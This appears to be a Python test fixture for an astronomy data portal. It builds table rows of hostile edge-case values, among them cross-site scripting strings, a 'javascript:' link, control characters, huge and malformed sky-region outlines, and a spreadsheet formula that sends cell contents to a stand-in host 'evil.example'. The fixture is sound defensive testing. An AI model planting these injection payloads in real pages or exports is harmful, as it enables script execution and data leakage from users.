"""Rows that say what nobody would: every text, number and outline in every column that could hold it."""

from typing import Any

import numpy as np
import pyarrow as pa

from mastportal.mast.arrow import page_table
from mastportal.mast.fields import fields_of

EVIL = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>{{ 7|add:7 }}'''\"\"\"\n]]>*/-->"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"open")'
LONG = "M" * 100_000
CONTROL = "\x00\x07\x1b]0;x\x07\u202e\ufffe\r\n-1+1"
LINK = "javascript:alert(1)"
TEXTS = (EVIL, FORMULA, LONG, CONTROL, LINK, "", None)
NUMBERS = (np.nan, np.inf, -np.inf, 1e308, -1e308, -0.0, None)
WHOLE = (2**62, -1, None, 0, 3, -999, 1)
SQUARE = "10 20 10 21 11 21 11 20"
REGIONS = (
    EVIL,
    f"POLYGON {SQUARE}",  # the wrong way round: all the sky but a square, were it believed
    "POLYGON " + " ".join(f"{n / 100} {n % 7}" for n in range(9_000)),  # crosses itself, a hundred kilobytes
    "POLYGON NAN NAN INFINITY -INFINITY 1E999 0",
    "CIRCLE 10 20 720",
    FORMULA,
    None,
)
ROWS = len(TEXTS)


def rows() -> pa.Table:
    """Every text, number and outline in every column that could hold it."""
    fields = fields_of("observations")
    texts = [{field.name: text for field in fields if field.type == "string"} for text in TEXTS]
    table = page_table(
        {"data": [row | {"s_region": region} for row, region in zip(texts, REGIONS, strict=True)]}, fields
    )
    columns: dict[str, Any] = {"s_ra": (*NUMBERS[:2], 10, 359.999999, -10, 720, None)}
    columns |= {"s_dec": (*NUMBERS[:2], 20, 90, -90, 91, None), "t_max": (60_000, *NUMBERS[1:])}
    for place, field in enumerate(table.schema):
        if not pa.types.is_string(field.type):
            values = columns.get(field.name, NUMBERS if pa.types.is_floating(field.type) else WHOLE)
            table = table.set_column(place, field, pa.array(values, from_pandas=False).cast(field.type))
    return table
